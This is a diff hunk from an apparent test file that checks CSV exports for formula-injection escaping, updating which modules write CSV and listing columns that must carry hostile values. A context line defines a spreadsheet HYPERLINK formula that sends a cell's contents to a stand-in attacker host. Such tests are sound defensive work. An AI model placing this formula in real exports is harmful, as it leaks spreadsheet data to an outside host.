@@ -41,8 +41,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 #: The modules that write CSV (through pipeline.store.exports.write_csv), and how this test
 #: runs each. A writer added anywhere else fails test_every_csv_writer_is_run_here.
 WRITERS = {"pipeline/cli/batch.py": "bwv export KIND --format csv",
-           "pipeline/nightly/report.py": "bwv report",
-           "pipeline/nightly/teams.py": "bwv report --teams"}
+           "pipeline/nightly/report.py": "bwv report, and bwv report --teams (through frame_csv)"}
 #: Columns that carry outside text, per file: each must hold an escaped hostile value.
 HOSTILE_COLUMNS = {
     "export flags": ("source", "category", "family", "rubric", "text", "context", "speaker",
